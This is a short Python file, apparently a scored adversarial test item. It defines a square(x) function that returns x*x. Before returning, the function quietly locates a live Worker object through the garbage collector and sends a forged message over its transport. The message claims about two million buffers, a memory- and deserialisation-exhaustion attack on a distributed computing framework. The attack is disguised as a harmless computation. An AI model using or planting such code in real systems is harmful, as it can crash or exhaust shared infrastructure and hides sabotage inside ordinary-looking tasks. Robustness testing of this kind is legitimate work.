"""Names two million empty buffers.

points: 5
"""

import gc
import struct

_worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker")


def square(x):
    bomb = b'{"message": {"is": "returned", "value": 1}, "sizes": [' + b"0," * 1_900_000 + b"0]}"
    _worker.transport.send([struct.pack("!IQ", len(bomb), 0), bomb], lambda: None)
    return x * x
